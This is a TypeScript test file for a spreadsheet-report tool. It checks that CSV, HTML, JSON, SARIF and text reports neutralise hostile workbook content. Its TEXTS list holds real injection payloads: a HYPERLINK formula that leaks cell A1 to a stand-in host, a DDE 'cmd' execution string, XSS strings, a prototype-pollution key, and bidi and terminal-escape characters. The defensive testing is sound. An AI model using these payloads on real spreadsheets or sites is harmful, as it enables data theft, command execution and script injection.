import { check } from '../../src/check/check';
import { FORMATTERS } from '../../src/report';
import { progressText } from '../../src/report/progress-text';
import { resultOf } from '../../src/report/run';
import { reportSheet } from '../../src/taskpane/reports/report-sheet';
import { recognise } from '../../src/tables/recognise';
import type { WorkbookReading } from '../../src/workbook/port';
import { parseCsv } from '../support/csv';
import { type FormInput, formGrid, rowsWith } from '../support/forms';
import { sheetOf, workbookOf } from '../support/grid';
import { tagsOf } from '../support/html';
import { ZH } from '../support/runs';

/** What a workbook may say to harm whoever opens a report of it. */
const TEXTS = [
  '=HYPERLINK("http://a.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '\t=1',
  '合同\n=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</style><b>',
  '&lt;b&gt;',
  '反\u202e过\u2066来\u2069',
  '清\u001b[2J屏\u0007\u009b31m',
  '__proto__',
  'javascript:alert(1)',
];
const MISLEADING = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
const FORMULA = /^[\s\p{Z}\p{Cf}]*[=+\-@]/u;

/** A form that says the text in every place that a report quotes. */
function formOf(text: string): Partial<FormInput> {
  return {
    title: `${text}绩效目标表`,
    name: text,
    code: text,
    budget: text,
    goal: text,
    purpose: text,
    unitLine: text,
    plan: [text, text, '75%', '100%'],
    rows: rowsWith({
      0: { name: text, description: text, target: text, basis: text },
      1: { name: text, description: text, target: `≥100%${text}`, basis: null },
      3: { target: `≤30万元${text}` },
      5: { level2: `${text}指标` },
    }),
  };
}

describe.each(TEXTS)('a workbook that says %j everywhere', (text) => {
  const snapshot = workbookOf(
    sheetOf(text.slice(0, 31), formGrid(formOf(text))),
    sheetOf(`${text} 2`, formGrid(formOf(text))),
    sheetOf(`${text} 3`, [[text]]),
  );
  const checked = check(recognise(snapshot));
  const report = {
    ...checked,
    findings: checked.findings.map((finding, index) =>
      index % 3 === 0 ? { ...finding, waived: { reason: text } } : finding,
    ),
  };
  const result = resultOf(text, report);
  const outputs = new Map(
    [...FORMATTERS, progressText({ year: 2023, month: 9, day: 30 })].map((formatter) => [
      formatter.id,
      formatter.format({ files: [result, result] }, { ...ZH, infos: true }),
    ]),
  );
  const outputOf = (id: string): string => outputs.get(id) ?? '';

  it('has findings, and is reported in every format', () => {
    expect(report.findings.length).toBeGreaterThan(5);
    expect([...outputs.keys()]).toEqual(['text', 'json', 'sarif', 'csv', 'html', 'progress']);
    for (const output of outputs.values()) expect(output.length).toBeGreaterThan(100);
  });

  it('is no formula in CSV', () => {
    const fields = parseCsv(outputOf('csv').slice(1)).flat();
    expect(fields.filter((field) => FORMULA.test(field.normalize('NFKC')))).toEqual([]);
    expect(fields.filter((field) => /[\r\n\t]/u.test(field))).toEqual([]);
  });

  it('is no element, attribute or address in HTML', () => {
    const tags = tagsOf(outputOf('html'));
    expect(
      tags.filter(({ name }) => ['script', 'img', 'b', 'iframe', 'link', 'base'].includes(name)),
    ).toEqual([]);
    const attributes = tags.flatMap((tag) => Object.entries(tag.attributes));
    expect(attributes.filter(([key]) => key.startsWith('on'))).toEqual([]);
    expect(attributes.filter(([key, value]) => key === 'href' && !value.startsWith('#'))).toEqual([]);
    expect(attributes.filter(([key]) => key === 'src')).toEqual([]);
  });

  it('is data in JSON and SARIF', () => {
    for (const id of ['json', 'sarif']) {
      const read: unknown = JSON.parse(outputOf(id));
      expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each(['text', 'progress', 'csv', 'html'])('does not turn or hide what stands beside it: %s', (id) => {
    expect(MISLEADING.exec(outputOf(id))).toBeNull();
  });

  it('is told in sentences and a report sheet without misleading characters', () => {
    const reading: WorkbookReading = {
      snapshot,
      fileName: text,
      sheets: snapshot.sheets.map(({ name, visibility }) => ({
        ...{ key: name, name, visibility },
        ...{ protected: false, marked: false },
      })),
    };
    const recognised = recognise(snapshot);
    const { rows } = reportSheet({ reading, recognised, report, at: new Date(0) }, 'zh-CN', '报告', '今天');
    const cells = rows.flat().map((cell) => cell.text);
    expect(cells.length).toBeGreaterThan(50);
    expect(cells.filter((cell) => MISLEADING.test(cell))).toEqual([]);
  });
});
